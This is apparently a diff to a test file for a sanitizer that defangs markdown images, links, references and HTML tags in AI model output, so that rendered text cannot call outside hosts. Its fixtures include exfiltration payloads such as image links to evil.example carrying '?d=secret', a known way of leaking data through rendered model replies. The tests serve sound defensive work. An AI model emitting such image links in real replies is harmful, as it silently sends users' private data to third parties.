@@ -6,13 +6,13 @@ const known = new Set(['https://one.example/'])
 
 describe('the words of a model', () => {
   it.each([
-    ['an image', 'See ![a chart](https://evil.example/x.png?d=secret).', 'See a chart.'],
+    ['an image', 'See ![a chart](https://evil.example/x.png?d=secret).', 'See [a chart].'],
     ['an image without words', 'Built in 1852. ![](https://evil.example/x)', 'Built in 1852. '],
-    ['an image with a title', '![a](https://evil.example/x "title")', 'a'],
-    ['a link', '[the page](https://evil.example/)', 'the page'],
-    ['an image in a link', '[![a](https://evil.example/x)](https://evil.example/)', '[a] (evil.example)'],
-    ['a broken image', '![a [b]](https://evil.example/x)', '![a [b]] (evil.example)'],
-    ['a reference', '![a][b] [b]: https://evil.example/x', '![a] [b] [b] : evil.example'],
+    ['an image with a title', '![a](https://evil.example/x "title")', '[a] (evil.example "title")'],
+    ['a link', '[the page](https://evil.example/)', '[the page]'],
+    ['an image in a link', '[![a](https://evil.example/x)](https://evil.example/)', '[[a]]'],
+    ['a broken image', '![a [b]](https://evil.example/x)', '[a [b]]'],
+    ['a reference', '![a][b] [b]: https://evil.example/x', '[a] [b] [b] : evil.example'],
     ['a tag', 'x <img src="https://evil.example/x"> y', 'x ‹img src="evil.example"> y'],
     ['an address in brackets', '<https://evil.example/x>', '‹evil.example>'],
     ['an address', 'as https://evil.example/x?d=secret shows', 'as evil.example shows'],
